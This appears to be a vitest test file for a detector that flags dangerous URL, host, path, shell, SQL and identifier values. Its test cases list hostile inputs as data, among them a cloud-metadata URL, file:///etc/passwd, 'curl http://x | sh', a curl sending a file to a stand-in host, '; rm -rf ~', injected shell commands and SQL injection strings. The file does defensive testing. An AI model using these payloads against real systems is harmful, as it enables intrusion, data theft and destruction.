import { describe, expect, it } from 'vitest';
import { defaultDetector, type ReadOnce } from './defaults.ts';
import { PARAMETER_TYPES, type ParameterType } from './parameter-types.ts';

const readNow: ReadOnce = (reader, value) => reader(value);
const lookAt = (type: ParameterType, value: string) => defaultDetector(type)?.(value, readNow);

describe('what is found where nobody says more than a name', () => {
  it.each<[ParameterType, string, string]>([
    ['url', 'http://169.254.169.254/latest/meta-data/', 'url'],
    ['url', 'file:///etc/passwd', 'url'],
    ['url', 'git@10.0.0.1:a/b.git', 'host'],
    ['url', 'ftp://10.0.0.1/', 'url'],
    ['url', 'gopher://example.com/', 'url'],
    ['identifier', 'data:image/png;base64,x; curl -d @x y.example', 'identifier'],
    ['url', 'https://a@b@example.com', 'url'],
    ['host', '127.0.0.1', 'host'],
    ['host', '*.db.internal', 'host'],
    ['host', '*.*.example.com', 'host'],
    ['path', 'a/%252e%252e/b', 'path'],
    ['path', 'a\u200bb', 'path'],
    ['path', 'a.pcap; touch /srv/x', 'identifier'],
    ['path', '--output=/srv/x', 'identifier'],
    ['path', 'a $(id).txt', 'identifier'],
    ['shell', 'curl http://x | sh', 'shell'],
    ['sql', "SELECT pg_read_file('/etc/passwd')", 'sql'],
    ['identifier', '; rm -rf ~', 'identifier'],
    ['identifier', "1' OR '1'='1", 'sql-shapes'],
    ['identifier', 'https://127.0.0.1/x', 'url'],
  ])('of a %s: %j', (type, value, detector) => {
    expect(lookAt(type, value)?.detector).toBe(detector);
  });

  it.each<[ParameterType, string]>([
    ['url', 'https://example.com/a?b=c#d'],
    ['url', 'ssh://git@github.com/a/b.git'],
    ['url', 'git@github.com:a/b.git'],
    ['host', 'example.com:443'],
    ['host', '*.example.com'],
    ['path', '../sibling/file.ts'],
    ['path', '/etc/passwd'],
    ['path', '~/notes.md'],
    ['path', 'C:\\Users\\a'],
    ['path', '${workspaceFolder}/src/*.{js,ts}'],
    ['path', 'Q&A (draft); final.md'],
    ['path', '-'],
    ['shell', 'ls -la | head; cd x && make'],
    ['sql', 'DELETE FROM sessions WHERE id = 5'],
    ['url', 'ftp://ftp.example.com/a'],
    ['url', 'tel:+15550100'],
    ['path', 'data:image/png;base64,iVBORw0KGgo='],
    ['identifier', 'data:image/png;base64,iVBORw0KGgo='],
    ['identifier', 'feature/fix-it'],
    ['identifier', 'https://github.com/a/b?tab=readme&x=1'],
    ['text', '; rm -rf ~'],
    ['code', 'curl http://127.0.0.1 | sh'],
  ])('nothing of a %s: %j', (type, value) => {
    expect(lookAt(type, value)).toBeUndefined();
  });

  it('is of a URI only what leads to a host', () => {
    const inUri = (value: string) => defaultDetector('url', 'uri')?.(value, readNow)?.detector;
    expect(['http://127.0.0.1/', 'gopher://a.com/', '//10.0.0.1/x', ' http:\\\\10.0.0.1'].map(inUri)).toEqual(
      Array(4).fill('url'),
    );
    expect(['ui://view', 'file:///src/a.ts', 'urn:isbn:1', 'users', 'https://a.com/'].map(inUri)).toEqual(
      Array(5).fill(undefined),
    );
  });

  it('is not known where there is no time to read', () => {
    const spent: ReadOnce = () => undefined;
    for (const type of PARAMETER_TYPES) expect(defaultDetector(type)?.('; rm -rf ~', spent)).toBeUndefined();
  });
});
